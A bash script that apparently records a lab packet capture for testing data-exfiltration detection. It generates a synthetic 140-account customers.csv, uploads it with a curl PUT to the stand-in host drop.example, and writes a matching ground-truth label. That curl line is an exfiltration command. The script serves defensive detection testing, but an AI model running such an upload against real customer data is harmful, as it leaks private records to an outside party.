#!/bin/bash
# SPDX-License-Identifier: GPL-3.0-or-later
# make.sh - record an upload that waits for 100 Continue.
here=$(cd "$(dirname "$0")" && pwd)
# shellcheck source=/dev/null
. "$here/../make/lab.sh"

table csv accounts 140 >"$LAB/customers.csv"
lab_up
lab_nginx out_
lab_record "$here/capture.pcap"
in_ curl -sS --resolve drop.example:80:203.0.113.9 -H "Expect: 100-continue" \
    -H "Content-Type: text/csv" --data-binary "@$LAB/customers.csv" \
    http://drop.example/dav/c.csv -X PUT
lab_stop
table truth accounts 140 channel=http party=drop.example \
    >"$here/truth.json"
